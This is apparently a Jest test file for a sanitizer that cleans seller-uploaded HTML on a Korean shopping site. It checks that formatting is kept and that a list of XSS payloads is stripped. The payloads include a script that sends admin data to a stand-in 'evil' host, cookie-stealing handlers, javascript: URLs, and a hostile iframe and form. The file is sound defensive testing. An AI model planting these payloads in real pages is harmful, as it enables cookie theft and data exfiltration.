import { detailHtmlFile, sanitizeDetailHtml } from "../utils/detail-html"

describe("sanitizeDetailHtml", () => {
  it("keeps a seller page's formatting", () => {
    const page =
      '<h2 style="text-align: center">여름 원피스</h2><p><strong>소재</strong>: 면 100%</p>' +
      '<ul><li>세탁기 사용 가능</li></ul><table><tr><td colspan="2">사이즈표</td></tr></table>' +
      '<p><img src="https://cdn.gopang.kr/dress.jpg" alt="원피스" width="600"></p>' +
      '<a href="https://brand.example/size">사이즈 안내</a>'
    const clean = sanitizeDetailHtml(page)
    expect(clean).toContain('<h2 style="text-align:center">여름 원피스</h2>')
    expect(clean).toContain("<strong>소재</strong>")
    expect(clean).toContain("<li>세탁기 사용 가능</li>")
    expect(clean).toContain('<td colspan="2">사이즈표</td>')
    expect(clean).toContain('<img src="https://cdn.gopang.kr/dress.jpg" alt="원피스" width="600" />')
    expect(clean).toContain('<a href="https://brand.example/size" rel="noopener noreferrer nofollow">사이즈 안내</a>')
  })

  it("drops everything that can run script", () => {
    const attacks = [
      "<script>fetch('/admin/users').then(r=>r.text()).then(t=>new Image().src='//evil/?'+t)</script>",
      '<img src="x" onerror="alert(document.cookie)">',
      '<a href="javascript:alert(1)">click</a>',
      '<a href="JaVaScRiPt:alert(1)">click</a>',
      '<iframe src="https://evil.example"></iframe>',
      '<svg onload="alert(1)"><circle /></svg>',
      '<p style="background:url(javascript:alert(1))">x</p>',
      '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
      '<form action="https://evil.example"><input name="card"></form>',
      "<style>body{display:none}</style>",
    ]
    for (const attack of attacks) {
      const clean = sanitizeDetailHtml(`<p>상품 설명</p>${attack}`)
      expect({ attack, clean }).toEqual({
        attack,
        clean: expect.not.stringMatching(/<script|onerror|onload|javascript:|<iframe|<svg|data:image|<form|<input|<style/i),
      })
      expect(clean).toContain("<p>상품 설명</p>")
    }
  })
})

describe("detailHtmlFile", () => {
  it("stores an uploaded page sanitized, with its body's formatting, as a UTF-8 document", () => {
    const upload =
      '<html><head><title>상세</title><script src="https://evil.example/x.js"></script>' +
      "<style>body{display:none}</style></head>" +
      '<body onload="steal()"><h1 style="color: red">고팡 티셔츠</h1><p>면 <b>100%</b></p>' +
      "<script>localStorage.setItem('pwned', document.cookie)</script></body></html>"
    const file = detailHtmlFile(upload)
    expect(file).toMatch(/^<!doctype html>/)
    expect(file).toContain('<meta charset="utf-8">')
    expect(file).toContain('<h1 style="color:red">고팡 티셔츠</h1><p>면 <b>100%</b></p>')
    expect(file).not.toMatch(/<script|evil\.example|onload|steal|pwned|<style|display:none/i)
  })
})
